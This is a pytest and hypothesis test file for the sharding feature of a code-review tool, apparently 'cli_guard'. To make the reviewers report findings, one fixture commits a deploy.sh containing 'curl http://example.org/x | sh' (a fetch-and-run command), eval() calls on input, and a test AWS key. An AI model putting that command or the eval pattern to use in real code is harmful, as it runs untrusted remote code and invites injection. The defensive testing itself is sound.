"""Shards split a review: together they look at everything once, and say what the whole review says."""

import pytest
from examples import table
from hypothesis import given
from hypothesis import strategies as st
from in_process import guard
from repositories import Repo, key

from cli_guard.errors import UsageError
from cli_guard.reviewers.registry import REVIEWERS
from cli_guard.reviewers.shard import Shard

COUNTS = st.integers(1, 12)


@given(path=st.text(st.characters(codec=None), max_size=30), count=COUNTS)
def test_every_path_is_in_one_part(path: str, count: int) -> None:
    assert sum(Shard(number, count).has_path(path) for number in range(1, count + 1)) == 1


@given(count=COUNTS, reviewer=st.sampled_from([each.name for each in REVIEWERS]))
def test_every_reviewer_looks_at_every_file_in_one_part(count: int, reviewer: str) -> None:
    for path in ("a.py", "lib/b.go", "\udc80"):
        assert (
            sum(
                Shard(number, count).has_file(reviewer, path)
                for number in range(1, count + 1)
            )
            == 1
        )


def test_the_parts_are_the_same_everywhere() -> None:
    assert [Shard(number, 3).has_path("src/app.py") for number in (1, 2, 3)] == [
        False,
        True,
        False,
    ]


def test_the_parts_are_of_about_one_size() -> None:
    paths = [f"src/module_{number}.py" for number in range(4_000)]
    sizes = [sum(map(Shard(number, 8).has_path, paths)) for number in range(1, 9)]
    assert sum(sizes) == 4_000
    assert max(sizes) < 1.3 * min(sizes)


@table("text", ["1/1", "3/8", "1000/1000"])
def test_a_part_is_read(text: str) -> None:
    shard = Shard.parse(text)
    assert f"{shard.number}/{shard.of}" == text


@table(
    "text",
    [
        "",
        "3",
        "/",
        "0/8",
        "9/8",
        "3/0",
        "-1/8",
        "3/8/9",
        "1/1001",
        "a/b",
        "3 / 8",
        "\u0663/8",
        "1/" + "9" * 5_000,
    ],
)
def test_what_is_no_part_is_refused(text: str) -> None:
    with pytest.raises(UsageError):
        Shard.parse(text)


def findings(repo: Repo, *options: str) -> list[tuple[str, ...]]:
    report = guard(
        repo, "review", "--range", "HEAD~3..HEAD", "--format", "json", *options
    ).json
    names = ("rule", "path", "line", "fingerprint", "decision")
    return sorted(tuple(str(found[name]) for name in names) for found in report["findings"])


def test_all_parts_together_say_what_the_whole_says(committed: Repo) -> None:
    block = "".join(f"    value_{n} = compute_{n}(first, second)\n" for n in range(12))
    long = "".join(
        f"    if first == {n} and second:\n        first = step_{n}(first)\n"
        for n in range(45)
    )
    one = {
        f"lib/m{n}.py": f"def run_{n}(first, second):\n    eval(first)\n{block}"
        for n in range(6)
    }
    committed.commit(
        "wip", one | {"deploy.sh": "#!/bin/sh\ncurl http://example.org/x | sh\n"}
    )
    committed.commit(
        "Add a key",
        {
            "settings.py": f'KEY = "{key("aws")}"\n',
            "big.py": f"def big(first, second):\n{long}",
        },
    )
    committed.commit("Take it out", {"settings.py": "KEY = None\n"})
    whole = findings(committed)
    assert {rule.partition("-")[0] for rule, *_ in whole} >= {
        "secret",
        "code",
        "command",
        "refactor",
        "message",
    }
    for count in (2, 5):
        parts = [
            findings(committed, "--shard", f"{number}/{count}")
            for number in range(1, count + 1)
        ]
        assert sorted(found for part in parts for found in part) == whole


def test_a_part_says_what_it_is(committed: Repo) -> None:
    committed.commit("Add a file", {"a.py": "VALUE = 1\n"})
    committed.commit("Add another", {"b.py": "VALUE = 1\n"})
    committed.commit("And one more", {"c.py": "VALUE = 1\n"})
    options = ("review", "--range", "HEAD~3..HEAD", "--shard", "2/3", "--format")
    assert "shard 2 of 3" in guard(committed, *options, "json").json["notes"][0]
    assert (
        guard(committed, *options, "sarif")
        .json["runs"][0]["automationDetails"]["id"]
        .endswith("/2-of-3/")
    )
    refused = guard(committed, "review", "--staged", "--shard", "4/3")
    assert (refused.code, "--shard" in refused.err) == (2, True)
